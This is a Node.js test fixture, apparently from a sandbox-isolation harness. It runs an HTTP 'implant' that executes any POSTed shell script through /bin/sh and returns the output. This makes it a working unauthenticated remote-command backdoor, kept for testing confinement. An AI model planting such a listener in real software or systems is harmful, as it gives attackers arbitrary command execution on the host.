// The attacker's foothold: runs, as the environment's own account and inside its confinement, what the harness sends it.
// Deliberately hostile code of a repository; it reads PORT or BERTH_SOCKET_DIR like any application.
const { spawn } = require('node:child_process')
const { createServer } = require('node:http')

const TIMEOUT_MS = 30_000
const OUTPUT = 1_000_000

createServer((request, response) => {
  // a POST over a connection that idled may be lost on an overloaded machine, and nobody may repeat a POST
  response.setHeader('connection', 'close')
  if (request.url === '/headers') return response.end(JSON.stringify(request.headers))
  if (request.method !== 'POST') return response.end(`implant ${process.env.NAME || ''}\n`)
  let script = ''
  request.setEncoding('utf8').on('data', (piece) => {
    script += piece
  })
  request.on('end', () => {
    const child = spawn('/bin/sh', ['-c', script], { stdio: ['ignore', 'pipe', 'pipe'] })
    let out = ''
    for (const stream of [child.stdout, child.stderr]) {
      stream.on('data', (piece) => {
        if (out.length < OUTPUT) out += piece
      })
    }
    const timer = setTimeout(() => child.kill('SIGKILL'), TIMEOUT_MS)
    // a child that the script left behind may keep the pipes open
    child.on('exit', (code) => {
      clearTimeout(timer)
      setTimeout(() => response.end(JSON.stringify({ code, out })), 50)
    })
  })
}).listen(Number(process.env.PORT || 8080), process.env.LISTEN || '0.0.0.0', () => {
  console.log('The application listens.') // so that it has a log, which its neighbours must not read
})
